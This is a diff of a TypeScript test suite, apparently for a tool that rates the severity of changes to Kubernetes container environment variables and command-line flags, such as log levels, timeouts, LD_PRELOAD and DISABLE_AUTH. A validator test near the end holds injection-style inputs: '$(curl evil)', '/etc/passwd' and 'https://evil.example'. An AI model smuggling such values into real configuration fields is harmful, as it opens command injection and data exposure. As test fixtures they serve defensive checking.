@@ -39,20 +39,42 @@ describe('powerful-input', () => {
   it('is a note for what a program logs, how long it waits and how much it does at once', () => {
     const variable = (name: string, value?: string) => runs({ env: [{ name, ...(value === undefined ? {} : { value }) }] });
     const severityOf = (before: KubernetesObject, after: KubernetesObject) => told([before], [after])?.map((text) => text.split(':', 1)[0]);
-    const values = ['debug', 'true', '5', '30s', '100ms', 'json'];
-    for (const value of values) {
-      for (const name of ['LOG_LEVEL', 'DEBUG', 'SYNC_INTERVAL', 'timeout', 'MAX_WORKERS']) {
-        expect(severityOf(variable(name, 'info'), variable(name, value))).toEqual(['info']);
-        expect(severityOf(runs(), variable(name, value))).toEqual(['info']);
-        expect(severityOf(variable(name, value), runs())).toEqual(['info']);
+    const cases: readonly [values: readonly string[], names: readonly string[], flags: readonly string[]][] = [
+      [
+        ['warn', 'error', 'false', '3', 'json'],
+        ['LOG_LEVEL', 'APP_LOG_FORMAT', 'log_level'],
+        ['--v', '-v', '--log-level', '--zap-log-level'],
+      ],
+      [
+        ['5', '30s', '100ms'],
+        ['SYNC_INTERVAL', 'timeout', 'MAX_WORKERS'],
+        ['--sync-timeout', '--concurrency'],
+      ],
+    ];
+    for (const [values, names, flags] of cases)
+      for (const value of values) {
+        for (const name of names) {
+          expect(severityOf(variable(name, values[0]), variable(name, value))).toEqual(value === values[0] ? [] : ['info']);
+          expect(severityOf(runs(), variable(name, value))).toEqual(['info']);
+          expect(severityOf(variable(name, value), runs())).toEqual(['info']);
+        }
+        for (const name of ['DISABLE_AUTH', 'ALLOW_ALL', 'BLOG', 'DIALOG', 'LD_PRELOAD', 'NAMESPACE', 'DEBUG', 'TRACE'])
+          expect(severityOf(variable(name, 'x'), variable(name, value))).toEqual(['error']);
+        for (const flag of flags)
+          expect(severityOf(runs({ args: ['run'] }), runs({ args: ['run', `${flag}=${value}`] }))).toEqual(['info']);
+        for (const flag of ['--kubeconfig', '--allow-all', '--webhook', '--debug'])
+          expect(severityOf(runs({ args: ['run'] }), runs({ args: ['run', `${flag}=${value}`] }))).toEqual(['error']);
       }
-      for (const name of ['DISABLE_AUTH', 'ALLOW_ALL', 'BLOG', 'DIALOG', 'LD_PRELOAD', 'NAMESPACE'])
-        expect(severityOf(variable(name, 'x'), variable(name, value))).toEqual(['error']);
-      for (const flag of ['--v', '--log-level', '--zap-log-level', '-v', '--sync-timeout', '--concurrency'])
-        expect(severityOf(runs({ args: ['run'] }), runs({ args: ['run', `${flag}=${value}`] }))).toEqual(['info']);
-      for (const flag of ['--kubeconfig', '--allow-all', '--log-file', '--webhook'])
-        expect(severityOf(runs({ args: ['run'] }), runs({ args: ['run', `${flag}=${value}`] }))).toEqual(['error']);
-    }
+    // Such levels print requests, and no time is without end.
+    for (const [name, value] of [
+      ['LOG_LEVEL', 'debug'],
+      ['LOG_LEVEL', 'trace'],
+      ['LOG_VERBOSITY', '10'],
+      ['MAX_TIMEOUT', '0'],
+    ] as const)
+      expect(severityOf(variable(name, '1'), variable(name, value))).toEqual(['error']);
+    for (const flag of ['--v=10', '--timeout=0', '--log-level=trace'])
+      expect(severityOf(runs({ args: ['run'] }), runs({ args: ['run', flag] }))).toEqual(['error']);
     for (const value of ['$(curl evil)', '/etc/passwd', 'https://evil.example', 'a b', ''])
       expect(severityOf(variable('LOG_LEVEL', 'info'), variable('LOG_LEVEL', value))).toEqual(['error']);
     const fromSecret = runs({ env: [{ name: 'LOG_LEVEL', valueFrom: { secretKeyRef: { name: 'a', key: 'b' } } }] });
